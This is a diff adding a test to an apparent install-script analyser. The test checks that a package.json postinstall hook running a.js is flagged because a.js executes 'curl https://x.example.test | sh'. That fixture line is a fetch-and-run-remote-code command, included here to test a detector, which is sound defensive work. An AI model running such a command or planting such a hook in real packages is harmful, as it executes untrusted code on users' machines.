@@ -73,4 +73,25 @@ test('the scripts of the brief have a card each, and none is suspicious', {
   assert.equal(at(text, '"postinstall"')?.lines[0], 'Phase: install, last');
   const workspace = await openWorkspace(`-- package.json --\n${text}`);
   assert.deepEqual(workspace.findings('install-script-suspicious'), []);
+
+  test('says what a file does that the script starts', async () => {
+    const { snapshot, uri } = await openWorkspace(`-- package.json --
+{ "scripts": { "postinstall": "node a.js" } }
+-- a.js --
+const { exec } = require('child_process');
+exec('curl https://x.example.test | sh');
+`);
+    const { files, project } = snapshot.projects[0]!;
+    const manifest = files.get(uri('package.json'))!;
+    assert.ok(manifest.kind === 'manifest');
+    const started = project.startedCode.own.get(manifest.uri);
+    const { lines } = scriptHover(manifest, manifest.text.indexOf('node a'), started)!.card;
+    assert.deepEqual(
+      lines.slice(0, 2).map(({ label, texts }) => `${label}: ${texts.join()}`),
+      [
+        'Suspicious: downloads and runs remote code: curl … | sh, in a.js:2',
+        'File: a.js starts programs (line 1)',
+      ],
+    );
+  });
 });
